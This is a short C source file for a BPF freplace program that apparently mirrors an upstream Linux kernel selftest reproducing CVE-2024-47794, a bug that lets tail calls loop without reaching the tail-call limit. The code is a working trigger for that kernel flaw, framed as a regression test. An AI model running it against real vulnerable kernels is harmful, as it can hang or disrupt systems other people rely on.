// SPDX-License-Identifier: GPL-2.0
/*
 * The CVE-2024-47794 freplace.
 *
 * Mirrors upstream tools/testing/selftests/bpf/progs/tailcall_freplace.c
 * (fdad456cbcca's selftest, reused by d6083f040d5d): entry_freplace replaces
 * tc_bpf2bpf's subprog_tc, counts its runs in .bss and tail-calls slot 0 of
 * its own 1-slot jmp_table.  Loading it makes jmp_table's owner the resolved
 * type of an EXT prog: SCHED_CLS on 6.1+, raw EXT on 5.10.
 *
 * With jmp_table[0] = entry_tc and this prog attached, entry_tc -> subprog_tc
 * (= entry_freplace) -> tail call -> entry_tc ... never hits the tail-call
 * limit on a vulnerable kernel: the freplace prologue resets the counter.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include "bpf_misc.h"

TG_PROG_ARRAY(jmp_table, 1);

int count = 0;

SEC("freplace")
int entry_freplace(struct __sk_buff *skb)
{
	count++;
	bpf_tail_call_static(skb, &jmp_table, 0);
	return count;
}

char __license[] SEC("license") = "GPL";
